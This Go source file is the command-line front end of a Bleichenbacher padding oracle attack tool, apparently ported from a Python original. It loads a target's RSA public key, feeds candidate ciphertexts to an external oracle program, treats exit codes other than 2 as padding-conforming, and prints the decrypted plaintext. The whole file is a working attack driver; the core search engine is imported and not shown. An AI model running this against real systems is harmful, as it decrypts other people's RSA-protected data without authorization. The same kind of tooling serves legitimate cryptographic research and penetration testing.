// Command execbleach drives the Bleichenbacher attack engine against a
// padding oracle realized as an external program, spawned once per query
// with the candidate ciphertext substituted into its argv. Mirrors
// original_source/main.py's CLI, which pairs an oracle.py ExecOracle with
// the same rc != 2 acceptance rule.
package main

import (
	"context"
	"flag"
	"fmt"
	"log/slog"
	"os"
	"os/signal"

	"github.com/alexmgr/gobleach/bleach"
	"github.com/alexmgr/gobleach/numutils"
	"github.com/alexmgr/gobleach/oracle"
	"github.com/alexmgr/gobleach/rsakey"
)

func main() {
	os.Exit(run(os.Args[1:]))
}

func run(args []string) int {
	logger := slog.New(slog.NewTextHandler(os.Stderr, nil))

	fs := flag.NewFlagSet("execbleach", flag.ContinueOnError)
	keyPath := fs.String("key", "", "path to the target's RSA public key (PEM)")
	oraclePath := fs.String("oracle", "", "path to the oracle executable")
	placeholder := fs.String("placeholder", "%c", "argv token replaced by the candidate ciphertext")
	poolSize := fs.Int("workers", 0, "worker pool size (default: runtime.NumCPU())")
	if err := fs.Parse(args); err != nil {
		return 1
	}
	oracleArgs := fs.Args()
	if len(oracleArgs) < 2 || *keyPath == "" || *oraclePath == "" {
		fmt.Fprintln(os.Stderr, "usage: execbleach -key pub.pem -oracle ./oracle [-placeholder TOKEN] [-workers N] <oracle-arg>... <hex-ciphertext>")
		return 1
	}
	hexCiphertext := oracleArgs[len(oracleArgs)-1]
	argTemplate := oracleArgs[:len(oracleArgs)-1]

	keyData, err := os.ReadFile(*keyPath)
	if err != nil {
		logger.Error("reading public key", "error", err)
		return 1
	}
	n, e, err := rsakey.ParsePublicKeyPEM(keyData)
	if err != nil {
		logger.Error("parsing public key", "error", err)
		return 1
	}

	c, err := numutils.ToIntError(hexCiphertext, "ciphertext")
	if err != nil {
		logger.Error("parsing ciphertext", "error", err)
		return 1
	}

	byteLen := (n.BitLen() + 7) / 8
	o := oracle.ExecOracle{
		Path:        *oraclePath,
		Args:        argTemplate,
		ByteLen:     byteLen,
		Placeholder: *placeholder,
	}

	// rc != 2 is accepted: main.py's oracle distinguishes "bad header"
	// (rc 2) from every other decryption outcome, and the attack only
	// needs the conforming/non-conforming bit.
	callback := func(r oracle.ExecResult) bool { return r.ExitCode != 2 }

	opts := []bleach.Option{bleach.WithExponent(e)}
	if *poolSize > 0 {
		opts = append(opts, bleach.WithPoolSize(*poolSize))
	}

	engine, err := bleach.NewEngine[oracle.ExecResult](n, o, callback, opts...)
	if err != nil {
		logger.Error("constructing engine", "error", err)
		return 1
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	logger.Info("starting search", "oracle", *oraclePath, "key_bits", n.BitLen())
	a, m, err := engine.RunSearch(ctx, c)
	if err != nil {
		logger.Error("search failed", "error", err)
		return 1
	}

	logger.Info("search complete", "a", a.Text(16))
	fmt.Printf("%x\n", m)
	return 0
}
